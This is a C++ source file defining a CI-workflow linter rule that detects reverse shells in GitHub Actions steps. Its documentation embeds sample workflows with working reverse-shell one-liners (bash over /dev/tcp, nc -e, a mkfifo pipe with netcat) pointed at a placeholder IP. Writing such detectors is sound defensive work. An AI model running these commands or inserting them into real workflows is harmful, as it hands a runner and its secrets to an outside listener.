#include "core/model/actions.h"
#include "core/parse/scalar_map.h"
#include "core/parse/shell.h"
#include "core/rules/rule.h"
#include "core/rules/sink.h"
#include "core/rules/wording.h"

#include <algorithm>
#include <string_view>

namespace sluice::actions {
namespace {

constexpr std::string_view kWhy = R"(
An interactive shell whose input and output go to a socket is no part of any build. The known ways are `nc -e`, `bash -i`
with `/dev/tcp`, and a named pipe between `sh -i` and `nc`.
)";

constexpr std::string_view kBad[] = {
    R"(on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: «bash -i >& /dev/tcp/192.0.2.1/4444 0>&1»
      - run: «nc -e /bin/sh 192.0.2.1 4444»
)",
    R"(on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | «/bin/sh -i 2>&1» | netcat 192.0.2.1 4444 > /tmp/f
)",
};
constexpr std::string_view kGood[] = {
    R"(on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: nc -z localhost 5432
      - run: bash -i -c 'make' && echo > /dev/tcp/localhost/80
      - run: echo "bash -i >& /dev/tcp/192.0.2.1/4444"
)",
    R"(on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: mkfifo pipe && cat pipe | sh
      - run: netcat -l 80
)",
};
constexpr std::string_view kAliases[] = {"checkov:CKV_GHA_4"};

bool is_netcat(std::string_view name) { return name == "nc" || name == "ncat" || name == "netcat"; }

// Has the flag -i, alone or among others.
bool is_interactive(const shell::Command& command) {
  return std::any_of(command.words.begin() + 1, command.words.end(), [](const shell::Word& word) {
    return word.value.starts_with('-') && !word.value.starts_with("--") &&
           word.value.find('i') != word.value.npos;
  });
}

bool goes_to_socket(const shell::Command& command) {
  return std::any_of(command.redirections.begin(), command.redirections.end(),
                     [](const shell::Redirection& redirection) {
                       return redirection.target.written.starts_with("/dev/tcp/") ||
                              redirection.target.written.starts_with("/dev/udp/");
                     });
}

bool has_netcat_beside(const shell::Script& script, const shell::Command& command) {
  return std::any_of(script.commands.begin(), script.commands.end(),
                     [&](const shell::Command& other) {
                       return other.pipeline == command.pipeline && is_netcat(other.name());
                     });
}

bool is_reverse_shell(const shell::Script& script, const shell::Command& command) {
  if (command.words.empty()) return false;
  const std::string_view name = command.name();
  if (is_netcat(name)) {
    return std::any_of(command.words.begin(), command.words.end(), [](const shell::Word& word) {
      return word.value == "-e" || word.value == "-c" || word.value == "--exec";
    });
  }
  if ((name != "sh" && name != "bash" && name != "zsh") || !is_interactive(command)) return false;
  return goes_to_socket(command) || has_netcat_beside(script, command);
}

void check(const Step& step, Sink& sink) {
  if (step.script == nullptr) return;
  const NodeRef run = step.node["run"];
  const ScalarMap map(run.tree()->source, run.text());
  for (const shell::Command& command : step.script->commands) {
    if (!is_reverse_shell(*step.script, command)) continue;
    sink.report(map.span(command.at.begin, command.at.end),
                quote(command.name()) + " is bound to a socket")
        .with_node(run.path());
  }
}

}  // namespace

extern constinit const Rule reverse_shell{
    .id = "actions/reverse-shell",
    .severity = Severity::critical,
    .title = "Step opens a shell to another machine",
    .risk = "Whoever listens there has the runner, with its token and its secrets.",
    .fix = "Remove the command, revoke the secrets of the job, and find out who added it.",
    .aliases = kAliases,
    .topics = {Topic::injection, Topic::network},
    .check = check,
};

extern constinit const RuleDoc reverse_shell_doc{.rule = reverse_shell,
                                                 .why = kWhy,
                                                 .source = "MITRE ATT&CK T1059.004",
                                                 .path = ".github/workflows/ci.yml",
                                                 .bad = kBad,
                                                 .good = kGood};

}  // namespace sluice::actions
